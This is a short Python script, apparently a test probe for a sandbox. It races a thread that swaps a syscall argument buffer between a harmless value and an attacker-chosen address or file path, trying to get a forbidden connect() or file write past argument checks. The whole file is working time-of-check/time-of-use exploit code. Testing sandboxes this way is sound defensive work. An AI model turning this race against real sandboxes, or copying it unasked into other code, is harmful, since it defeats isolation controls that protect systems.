"""Changes what an argument points to while the call is under way: `swap address HOST PORT TEXT`, `swap path FILE TEXT`.

One thread calls with a harmless argument and another one lays a harmful one over it, and back, all the time.
"""

import ctypes
import os
import socket
import struct
import threading
import time

from prelude import arguments, ended, libc

kind, *words = arguments
if kind == "address":
    harmless = struct.pack("=H", socket.AF_INET) + struct.pack(">H", 9) + socket.inet_aton("127.0.0.1") + bytes(8)
    harmful = struct.pack("=H", 2) + struct.pack(">H", int(words[1])) + socket.inet_aton(words[0]) + bytes(8)
else:
    folder = os.path.dirname(os.path.dirname(words[0]))
    harmless, harmful = os.path.join(folder, "harmless").encode() + b"\0", words[0].encode() + b"\0"
size = max(len(harmless), len(harmful))
place = ctypes.create_string_buffer(harmless.ljust(size, b"\0"), size)
until = time.monotonic() + 1.5


def swap():
    while time.monotonic() < until:
        ctypes.memmove(place, harmful, len(harmful))
        ctypes.memmove(place, harmless, len(harmless))


threading.Thread(target=swap, daemon=True).start()
while time.monotonic() < until:
    if kind == "address":
        with socket.socket() as client:
            if libc.connect(client.fileno(), place, 16) == 0:
                try:
                    client.send(words[2].encode())
                    client.settimeout(0.2)
                    client.recv(100)
                except OSError:
                    pass
    else:
        opened = libc.open(place, os.O_WRONLY | os.O_CREAT, 0o644)
        if opened >= 0:
            os.write(opened, words[1].encode())
            os.close(opened)
ended("done")
